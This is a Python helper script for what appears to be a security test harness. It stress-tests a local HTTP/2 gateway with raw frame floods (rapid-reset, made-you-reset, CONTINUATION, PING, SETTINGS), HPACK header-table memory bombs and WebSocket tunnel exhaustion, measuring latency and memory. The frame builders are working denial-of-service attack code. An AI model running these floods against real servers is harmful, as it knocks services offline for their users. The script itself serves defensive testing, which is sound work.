#!/usr/bin/env python3
"""What attack.sh needs more than a shell for. Standard library only.

    attack.py ports COUNT                       free loopback ports
    attack.py login URL EMAIL < password        the Cookie header of a new user's session
    attack.py portal PORT                       the portal: answers, counts requests, echoes after an upgrade
    attack.py honest URL SECONDS                a user at work: p50 and p99 in microseconds, requests, failures
    attack.py flood KIND URL                    frames of HTTP/2 until the gateway closes: seconds, frames
    attack.py bomb KIND URL CONNECTIONS PID     connections of 64 hostile requests each: memory before, peak, after
    attack.py tunnels URL COUNT PID -- COMMAND  WebSockets held through the gateway until COMMAND ends the session

AUTHORITY names the authority's certificate, BENCH_COOKIE_FILE a file with the Cookie header of a session.
"""

import asyncio
import base64
import contextlib
import hashlib
import os
import select
import socket
import ssl
import struct
import subprocess
import sys
import threading
import time
import urllib.parse

import login

GIVE_UP = 20  # seconds
PAGE = os.sysconf("SC_PAGE_SIZE")
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# Connections from one loopback address: fewer than server.max_connections_per_network.
PER_ADDRESS = 900


# --- the portal ---------------------------------------------------------------------------------------------------


class Portal(asyncio.Protocol):
    requests = 0

    def connection_made(self, transport):
        self.transport, self.buffer, self.echoes = transport, b"", False

    def data_received(self, data):
        if self.echoes:
            self.transport.write(data)
            return
        self.buffer += data
        while b"\r\n\r\n" in self.buffer:
            head, _, self.buffer = self.buffer.partition(b"\r\n\r\n")
            self.answer(head.decode("latin-1"))

    def answer(self, head):
        fields = dict(line.lower().split(": ", 1) for line in head.split("\r\n")[1:])
        if fields.get("upgrade") == "websocket":
            key = next(line.split(": ", 1)[1] for line in head.split("\r\n") if line.lower().startswith("sec-websocket-key"))
            digest = hashlib.sha1(key.encode() + b"258EAFA5-E914-47DA-95CA-C5AB0DC85B11").digest()
            accept = base64.b64encode(digest).decode()
            self.transport.write(
                "HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
                f"Sec-WebSocket-Accept: {accept}\r\n\r\n".encode()
            )
            self.echoes = True
            return
        if head.startswith("GET /count "):
            body = str(Portal.requests)
        else:
            Portal.requests += 1
            body = "x" * 1024
        self.transport.write(f"HTTP/1.1 200 OK\r\nContent-Length: {len(body)}\r\n\r\n{body}".encode())


async def portal(port):
    server = await asyncio.get_running_loop().create_server(Portal, "127.0.0.1", port, backlog=4096)
    await server.serve_forever()


# --- clients ------------------------------------------------------------------------------------------------------


def session():
    with open(os.environ["BENCH_COOKIE_FILE"], encoding="ascii") as file:
        return file.readline().strip()


class Gateway:
    def __init__(self, url, protocol="http/1.1"):
        parts = urllib.parse.urlsplit(url)
        self.authority, self.host, self.port = parts.netloc, parts.hostname, parts.port
        self.tls = ssl.create_default_context(cafile=os.environ["AUTHORITY"])
        self.tls.set_alpn_protocols([protocol])

    def connect(self, number=0):
        """`number` counts connections: some hundreds of them share a source address."""
        source = (f"127.0.0.{2 + number // PER_ADDRESS}", 0)
        plain = socket.create_connection(("127.0.0.1", self.port), timeout=GIVE_UP, source_address=source)
        plain.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        return self.tls.wrap_socket(plain, server_hostname=self.host)


def resident(pid):
    with open(f"/proc/{pid}/statm", encoding="ascii") as file:
        return int(file.read().split()[1]) * PAGE


def honest(url, seconds):
    gateway, times, failures = Gateway(url), [], 0
    request = f"GET / HTTP/1.1\r\nHost: {gateway.authority}\r\nCookie: {session()}\r\n\r\n".encode()
    connection, until = None, time.monotonic() + seconds
    while time.monotonic() < until:
        try:
            connection = connection or gateway.connect(0)
            begun = time.perf_counter()
            connection.sendall(request)
            answer = b""
            while not answer.endswith(b"x" * 1024):
                data = connection.recv(65536)
                if not data:
                    raise ConnectionError(answer[:40])
                answer += data
            times.append(time.perf_counter() - begun)
        except OSError:
            failures, connection = failures + 1, None
        time.sleep(0.005)
    times.sort()
    at = lambda share: round(1e6 * times[int(share * (len(times) - 1))]) if times else 0
    print(at(0.5), at(0.99), len(times), failures)


# --- HTTP/2 by the octet ------------------------------------------------------------------------------------------


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value, first=0):
    field = bytes([first])
    for text in (name.encode(), value.encode()):
        length = len(text)
        if length < 127:
            field += bytes([length])
        else:
            field, rest = field + b"\x7f", length - 127
            while rest >= 128:
                field, rest = field + bytes([rest % 128 | 128]), rest // 128
            field += bytes([rest])
        field += text
    return field


def head(authority, *fields, method="GET", path="/"):
    known = [(":method", method), (":scheme", "https"), (":authority", authority), (":path", path)]
    return b"".join(literal(name, value) for name, value in [*known, *fields])


def floods(authority):
    """For each kind, the frames with the number n."""
    cookie = ("cookie", session())
    get, post = head(authority, cookie), head(authority, cookie, method="POST")
    opened = lambda n: frame(1, 4, 1, post) if n == 0 else b""
    return {
        "ping": lambda n: frame(6, 0, 0, bytes(8)),
        "settings": lambda n: frame(4, 0, 0),
        "priority": lambda n: frame(2, 0, 2 * n + 1, bytes(4) + b"\1"),
        "window-of-one": lambda n: frame(8, 0, 0, b"\0\0\0\1"),
        "window-of-none": lambda n: opened(n) + frame(8, 0, 1, bytes(4)),
        "empty-data": lambda n: opened(n) + frame(0, 0, 1),
        "continuation": lambda n: frame(9, 0, 1, b"\x10\1x\1y") if n else frame(1, 0, 1),
        "rapid-reset": lambda n: frame(1, 5, 2 * n + 1, get) + frame(3, 0, 2 * n + 1, b"\0\0\0\x08"),
        "made-you-reset": lambda n: frame(1, 5, 2 * n + 1, get) + frame(8, 0, 2 * n + 1, bytes(4)),
    }


def drain(connection):
    """Reads what has come: what is not read would block the other side, which is another attack."""
    connection.setblocking(False)
    with contextlib.suppress(ssl.SSLWantReadError):
        while connection.recv(65536):
            pass
    connection.setblocking(True)


def flood(kind, url):
    gateway = Gateway(url, "h2")
    frames, connection, sent = floods(gateway.authority)[kind], gateway.connect(), 0
    begun = time.monotonic()
    with contextlib.suppress(OSError):
        connection.sendall(PREFACE + frame(4, 0, 0))
        while time.monotonic() < begun + GIVE_UP:
            connection.sendall(b"".join(frames(number) for number in range(sent, sent + 100)))
            sent += 100
            drain(connection)
    print(f"{time.monotonic() - begun:.2f} {sent}")


def bombs(authority):
    """For each kind, the settings and the frames of one connection."""
    login, form = "/.portcullis/login", ("content-type", "application/x-www-form-urlencoded")
    start = head(authority, form, method="POST", path=login)
    streams = range(1, 129, 2)
    # The long value is sent once and then meant by one octet; 62 is the newest entry of the table.
    first = frame(1, 4, 1, start + literal("x", "y" * 3900, 0x40))
    indexed = first + b"".join(frame(1, 4, stream, start + b"\xbe" * 3) for stream in streams[1:])
    first = frame(1, 4, 1, start + literal("x", "y", 0x40))
    many = first + b"".join(frame(1, 4, stream, start + b"\xbe" * 90) for stream in streams[1:])
    page = head(authority, ("accept", "text/html"), path=login)
    unread = b"".join(frame(1, 5, stream, page) for stream in streams)
    body = b"".join(frame(1, 4, stream, start) + frame(0, 0, stream, b"a" * 4000) for stream in streams)
    no_window = struct.pack(">HI", 4, 0)
    return {"indexed": (b"", indexed), "fields": (b"", many), "unread": (no_window, unread), "bodies": (b"", body)}


def bomb(kind, url, connections, pid):
    gateway = Gateway(url, "h2")
    settings, frames = bombs(gateway.authority)[kind]
    before = peak = resident(pid)
    held = []
    for number in range(connections):
        held.append(gateway.connect(number))
        # A connection that has begun is not closed for silence.
        held[-1].sendall(PREFACE + frame(4, 0, 0, settings))
    idle = resident(pid)
    done = threading.Event()

    def look():
        nonlocal peak
        while not done.wait(0.02):
            peak = max(peak, resident(pid))

    looking = threading.Thread(target=look)
    looking.start()
    for connection in held:
        with contextlib.suppress(OSError):
            connection.sendall(frames)
    time.sleep(2)
    done.set()
    looking.join()
    for connection in held:
        connection.close()
    time.sleep(5)
    print(before, idle, peak, resident(pid))


def tunnels(url, count, pid, command):
    gateway = Gateway(url)
    request = (
        f"GET /socket HTTP/1.1\r\nHost: {gateway.authority}\r\nOrigin: https://{gateway.authority}\r\n"
        f"Cookie: {session()}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
        "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
    ).encode()
    before, held = resident(pid), []
    for number in range(count):
        connection = gateway.connect(number)
        connection.sendall(request)
        answer = connection.recv(4096)
        if not answer.startswith(b"HTTP/1.1 101 "):
            raise SystemExit(f"attack: tunnel {number} was answered {answer[:60]!r}")
        held.append(connection)
    time.sleep(2)
    each = (resident(pid) - before) / count
    held[count // 2].sendall(b"\x81\x85\0\0\0\0hello")
    if held[count // 2].recv(64) != b"\x81\x85\0\0\0\0hello":
        raise SystemExit("attack: a tunnel does not echo")
    poll = select.epoll()
    for connection in held:
        poll.register(connection, select.EPOLLRDHUP)
    begun = time.monotonic()
    command = subprocess.Popen(command, stdout=subprocess.DEVNULL)
    last, left = 0.0, count
    revoked = None
    while left and time.monotonic() < begun + GIVE_UP:
        if revoked is None and command.poll() is not None:
            revoked = time.monotonic()
        for descriptor, _ in poll.poll(0.01):
            poll.unregister(descriptor)
            left -= 1
        last = time.monotonic()
    command.wait()
    print(f"{each:.0f} {left} {last - begun:.2f} {max(0.0, last - (revoked or last)):.2f}")


def main():
    match sys.argv[1:]:
        case ["ports", count]:
            held = [socket.create_server(("127.0.0.1", 0)) for _ in range(int(count))]
            print(*(one.getsockname()[1] for one in held))
        case ["login", url, email]:
            password = sys.stdin.read().rstrip("\n")
            browser = login.log_in(url, email, password, os.environ["AUTHORITY"])
            print("; ".join(f"{name}={value}" for name, value in browser.cookies.items()))
        case ["portal", port]:
            asyncio.run(portal(int(port)))
        case ["honest", url, seconds]:
            honest(url, float(seconds))
        case ["flood", kind, url]:
            flood(kind, url)
        case ["bomb", kind, url, connections, pid]:
            bomb(kind, url, int(connections), pid)
        case ["tunnels", url, count, pid, "--", *command]:
            tunnels(url, int(count), pid, command)
        case _:
            raise SystemExit(__doc__)


if __name__ == "__main__":
    main()
